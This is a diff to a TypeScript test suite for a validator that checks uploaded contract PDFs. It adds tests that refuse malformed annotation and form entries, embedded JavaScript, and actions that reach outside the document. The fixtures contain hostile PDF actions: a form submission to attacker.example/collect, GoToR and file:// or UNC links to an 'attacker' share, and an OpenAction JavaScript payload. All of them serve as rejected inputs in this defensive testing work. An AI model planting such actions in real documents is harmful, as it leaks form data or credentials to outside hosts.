@@ -149,6 +149,22 @@ describe("inspectUploadedPdf", () => {
     }
   });
 
+  it("refuses a PDF the seal's signature field cannot be added to: page 1's /Annots or the catalog's /AcroForm of another type", async () => {
+    const annots = await document(2);
+    annots.pages[0].node.set(PDFName.of("Annots"), annots.doc.context.obj(5));
+    expect(await problemOf(await save(annots.doc))).toMatch(/^The PDF is damaged and cannot be read/);
+    const form = await document(2);
+    form.doc.catalog.set(PDFName.of("AcroForm"), form.doc.context.obj(5));
+    expect(await problemOf(await save(form.doc))).toMatch(/^The PDF is damaged and cannot be read/);
+  });
+
+  it("names the real reason first: a PDF with JavaScript that the seal could not stamp either is refused for its JavaScript", async () => {
+    const { doc, pages } = await document(2);
+    pages[1].node.set(PDFName.of("Contents"), doc.context.obj(42));
+    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "JavaScript", JS: PDFString.of("app.alert(1)") }));
+    expect(await problemOf(await save(doc))).toMatch(/^The PDF contains JavaScript,/);
+  });
+
   it("refuses a page turned by other than a multiple of 90 degrees, and measures a page as shown: its CropBox within its MediaBox", async () => {
     const turned = await document(2);
     turned.pages[1].node.set(PDFName.of("Rotate"), turned.doc.context.obj(45));
@@ -277,21 +293,24 @@ describe("inspectUploadedPdf", () => {
       );
     });
 
-    it("actions that reach outside the document: another file (a network path), a form's data sent or imported; a web link is fine", async () => {
+    it("actions that reach outside the document: another file (a network path, a file: link), a form's data sent or imported; a web or mail link is fine", async () => {
       for (const action of [
         { S: "GoToR", F: PDFString.of("\\\\attacker\\share\\x.pdf"), D: [0, "Fit"] },
         { S: "GoToE", T: { R: "C", N: PDFString.of("x") } },
         { S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://attacker.example/collect") } },
         { S: "ImportData", F: PDFString.of("data.fdf") },
+        { S: "URI", URI: PDFString.of("file://attacker/share/x.pdf") },
+        { S: "URI", URI: PDFString.of("\\\\attacker\\share") },
       ]) {
         const { doc, pages } = await document();
         annotate(doc, pages[0], { Subtype: "Link", A: action });
         expect(await problemOf(await save(doc)), action.S).toBe(
-          "The PDF contains an action that opens another file or sends its form's data, which a contract's document may not carry; print it to PDF again and upload that.",
+          "The PDF contains an action that opens another file or sends its form's data (or a link not to a web page or an e-mail address), which a contract's document may not carry; print it to PDF again and upload that.",
         );
       }
       const linked = await document();
       annotate(linked.doc, linked.pages[0], { Subtype: "Link", A: { S: "URI", URI: PDFString.of("https://example.com/terms") } });
+      annotate(linked.doc, linked.pages[1], { Subtype: "Link", A: { S: "URI", URI: PDFString.of("mailto:legal@example.com") } });
       expect(await inspectUploadedPdf(await save(linked.doc))).toMatchObject({ ok: true });
     });
 
